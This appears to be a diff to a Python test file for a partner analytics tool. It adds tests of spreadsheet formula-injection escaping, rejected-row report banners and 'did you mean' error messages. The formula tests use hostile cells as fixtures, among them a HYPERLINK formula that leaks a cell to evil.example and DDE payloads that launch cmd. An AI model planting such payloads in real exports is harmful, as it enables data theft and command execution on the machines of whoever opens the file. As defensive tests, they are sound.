@@ -24,6 +24,7 @@ import partner_analytics as pa
 from partner_analytics import cli
 from partner_analytics.cli import main
 from partner_analytics.core.schema import TABLES
+from partner_analytics.core.spreadsheet import formula_safe
 from partner_analytics.io import lineage, validation
 from partner_analytics.io.readers import read_table
 from partner_analytics.io.validation import validate_table
@@ -432,6 +433,73 @@ def test_excel_export_writes_text_from_the_inputs_as_text(tmp_path: Path, capsys
     assert formulas == []
 
 
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1;"open")', '\'=HYPERLINK("http://evil.example/?leak="&A1;"open")'),
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1,1)", "'@SUM(1,1)"),
+        ("-12.50", "-12.50"),  # a plain number, not a formula: as read
+        ("http://evil.example/x", "http://evil.example/x"),
+    ],
+    ids=["hyperlink", "sum", "dde", "minus", "at", "negative", "url"],
+)
+def test_csv_exports_write_text_that_starts_like_a_formula_as_text(
+    tmp_path: Path, capsys, monkeypatch, value: str, written: str
+) -> None:
+    """The tables export and --rejected-out: the rejected value and the reason quoting it (text columns)."""
+    quoted = '"' + value.replace('"', '""') + '"'
+    folder = write_engagement(
+        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
+    )
+    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "csv"]) == 0
+    _check_output(folder, capsys, monkeypatch, "--rejected-out", str(tmp_path / "rejected.csv"))
+    for path in (tmp_path / "out" / "rejected.csv", tmp_path / "rejected.csv"):
+        rejected = pl.read_csv(path, infer_schema=False)
+        assert rejected["row"].to_list() == ["5"] and rejected["value"].to_list() == [written]
+        assert rejected["reason"].item().startswith(f"unknown channel '{value}'"), "the reason starts with a word"
+
+
+def test_csv_export_leaves_numbers_as_numbers(tmp_path: Path) -> None:
+    """A negative amount (integer cents) is written -12.50 and a negative float as is: only text is protected."""
+    tables = {
+        "statement": pl.DataFrame({"partner_id": ["=evil", "northcall"], "net": [-1250, 72420200]}),
+        "results": pl.DataFrame({"kpi": ["-asa"], "value": [-0.5]}),
+    }
+    pa.io.export_tables(tables, tmp_path, "csv", {})
+    assert (tmp_path / "statement.csv").read_text() == "partner_id,net\n'=evil,-12.50\nnorthcall,724202.00\n"
+    assert (tmp_path / "results.csv").read_text() == "kpi,value\n'-asa,-0.5\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("@x", "'@x"),
+        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),  # a space is a spreadsheet operator
+        ("+1,234.5", "+1,234.5"),  # a plain number
+        ("+1e5", "+1e5"),
+        ("-.5", "-.5"),
+        ("-", "'-"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),  # a leading space: a spreadsheet reads it as text
+        (None, None),
+    ],
+)
+def test_formula_safe_text(text: str | None, safe: str | None) -> None:
+    frame = pl.DataFrame({"text": [text], "number": [-3]}, schema={"text": pl.String, "number": pl.Int64})
+    assert formula_safe(frame).rows() == [(safe, -3)]
+
+
+def test_formula_safe_covers_categorical_text() -> None:
+    frame = pl.DataFrame({"c": ["=1", "ok"]}, schema={"c": pl.Categorical})
+    assert formula_safe(frame)["c"].to_list() == ["'=1", "ok"]
+
+
 # --- what used to end in a traceback ------------------------------------------------------------
 
 
@@ -606,8 +674,7 @@ def test_contacts_without_a_valid_row_fail_the_check_whatever_the_share_allowed(
     assert status == 1
     assert err == (
         f"error: {folder / 'contacts.csv'}: 3 of 3 rows rejected (100%), no valid row (the contacts table is "
-        "required); 3 for partner_id: unknown partner 'nordcall' (expected one of the contract's partners: "
-        "northcall, southdesk)\n"
+        "required); 3 for partner_id: unknown partner 'nordcall' (did you mean 'northcall'?)\n"
     )
 
 
@@ -732,6 +799,28 @@ def test_the_cycle_index_has_a_banner_when_rows_were_rejected(rejected_rows: int
     text = index_html(_index_record(rejected_rows))
     line = '<p class="failed">1,234 rows of the data were rejected: they are left out of every report.</p>'
     assert (line in text) is banner and ("rejected" in text) is banner
+
+
+def test_a_report_of_a_period_with_rejected_rows_opens_with_a_banner(tmp_path: Path) -> None:
+    """Two of northcall's September rows and one of southdesk's are rejected; August's report has no banner."""
+    from partner_analytics.reports import operational_report, programme_overview, rejected_banner
+
+    rows = [
+        "c4,northcall,vocie,2026-09-03 10:00:00,true,1,1,,",
+        "c5,northcall,voice,2026-09-31 10:00:00,true,1,1,,",
+        "c6,southdesk,chat,2026-09-04 10:00:00,perhaps,1,1,,",
+    ]
+    analysis = pa.compute(_load(tmp_path, {"contacts.csv": CONTACTS_CSV + "".join(r + "\n" for r in rows)}))
+    september = operational_report(analysis, "northcall", "2026-09")
+    banner = rejected_banner(september.rejected, september.period).markup
+    assert "<strong>2 rows of the data of 2026-09 were rejected</strong> (contacts: 2)" in banner
+    assert "southdesk" not in banner and "perhaps" not in banner, "a partner's report counts its own rows"
+    overview = programme_overview(analysis, "2026-Q3")
+    assert "3 rows of the data of 2026-Q3 were rejected</strong> (contacts: 3)" in (
+        rejected_banner(overview.rejected, overview.period).markup
+    )
+    august = operational_report(analysis, "northcall", "2026-08")
+    assert rejected_banner(august.rejected, august.period).markup == ""
 
 
 # --- messages that point at the fix ---------------------------------------------------------------
@@ -1345,7 +1434,7 @@ def test_unknown_partner_with_a_case_hint(tmp_path: Path) -> None:
     )
     assert kept == VALID_IDS
     assert _reasons(rejected) == {
-        5: "unknown partner 'NorthCall' (expected one of the contract's partners: northcall, southdesk); values are case-sensitive",
+        5: "unknown partner 'NorthCall' (did you mean 'northcall'? values are case-sensitive)",
         6: "unknown partner 'acme' (expected one of the contract's partners: northcall, southdesk)",
     }
 
@@ -1363,6 +1452,62 @@ def test_unknown_channel_and_kpi(tmp_path: Path) -> None:
     )
     assert rejected["reason"][1].startswith("unknown KPI 'employee_nps' (expected one of: offered, answered,")
     assert eng.table("reported_kpis").collect()["kpi"].to_list() == ["asa"]
+
+
+def test_a_misspelt_value_gets_the_value_it_most_likely_meant(tmp_path: Path) -> None:
+    """difflib's closest known value (similarity >= 0.6, case ignored) replaces the list of values."""
+    files = {
+        "contacts.csv": CONTACTS_CSV
+        + "u1,northcall,vocie,2026-09-01 10:00:00,true,1,1,,\n"  # voice: 2·4/10 = 0.8
+        + "u2,nortcall,voice,2026-09-01 10:00:00,true,1,1,,\n"  # northcall: 2·8/17 = 0.94
+        + "u3,southdesk,Chat,2026-09-01 10:00:00,true,1,1,,\n"  # only the case differs
+        + "u4,southdesk,sms,2026-09-01 10:00:00,true,1,1,,\n",  # close to nothing: the list
+        "reported_kpis.csv": "partner_id,month,kpi,value\nnorthcall,2026-09,servce_level,0.8\nnorthcall,2026-09,csta,0.7\n",
+        "actions.csv": "action_id,partner_id,committee,raised_on,owner_party,title\n"
+        "a1,northcall,operationnal,2026-09-03,provider,Fix IVR\n",
+    }
+    eng = _load(tmp_path, files)
+    rejected = eng.rejected.collect().sort("table", "row")
+    assert rejected.select("table", "row", "column", "reason").rows() == [
+        ("actions", 2, "committee", "unknown value 'operationnal' (did you mean 'operational'?)"),
+        ("contacts", 5, "channel", "unknown channel 'vocie' (did you mean 'voice'?)"),
+        ("contacts", 6, "partner_id", "unknown partner 'nortcall' (did you mean 'northcall'?)"),
+        ("contacts", 7, "channel", "unknown channel 'Chat' (did you mean 'chat'? values are case-sensitive)"),
+        (
+            "contacts",
+            8,
+            "channel",
+            "unknown channel 'sms' (expected one of the contract's channels: voice, chat, email)",
+        ),
+        ("reported_kpis", 2, "kpi", "unknown KPI 'servce_level' (did you mean 'service_level'?)"),
+        ("reported_kpis", 3, "kpi", "unknown KPI 'csta' (did you mean 'csat'?)"),
+    ]
+    assert sorted(eng.contacts.collect()["contact_id"]) == VALID_IDS, "nothing guessed: the rows stay rejected"
+
+
+def test_a_misspelt_service_level_of_a_relief_row_gets_the_partners_closest(tmp_path: Path) -> None:
+    relief = (
+        "partner_id,starts_at,ends_at,effect,reason,granted_by,granted_on,channel,service_level\n"
+        "northcall,2026-09-01 00:00:00,2026-09-02 00:00:00,excuse_month,flood,client,2026-09-03,,service_level/vocie\n"
+        "southdesk,2026-09-01 00:00:00,2026-09-02 00:00:00,excuse_month,flood,client,2026-09-03,,asa/voice\n"
+    )
+    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "relief.csv": relief})
+    rejected = eng.rejected.collect().sort("row")
+    assert _reasons(rejected) == {
+        2: "unknown service level 'service_level/vocie' (did you mean 'service_level/voice'?)",
+        # southdesk has no service level: asa/voice is northcall's, never suggested to another partner
+        3: "unknown service level 'asa/voice' (expected one of the partner's service levels: none)",
+    }
+
+
+def test_did_you_mean_on_a_large_file_is_built_once_per_value(tmp_path: Path) -> None:
+    rows = [
+        f"c{i},northcall,{'vocie' if i % 100 == 0 else 'voice'},2026-09-01 09:00:00,true,1,1,," for i in range(5_000)
+    ]
+    eng = _load(tmp_path, {"contacts.csv": _csv(*rows)})
+    rejected = eng.rejected.collect()
+    assert rejected.height == 50 and set(rejected["reason"]) == {"unknown channel 'vocie' (did you mean 'voice'?)"}
+    assert eng.contacts.select(pl.len()).collect().item() == 4_950
 
 
 # --- the contract --------------------------------------------------------------------------------
